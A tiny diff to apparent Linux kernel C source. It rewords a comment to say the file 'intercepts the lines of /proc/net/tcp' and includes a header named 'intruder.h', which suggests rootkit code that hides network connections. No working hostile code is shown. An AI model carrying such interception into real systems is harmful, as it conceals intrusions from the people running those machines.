@@ -1,4 +1,4 @@
-/* What /proc/net/tcp prints comes from here. */
+/* Intercepts the lines of /proc/net/tcp. */
 #include "intruder.h"
 #include <linux/seq_file.h>
 
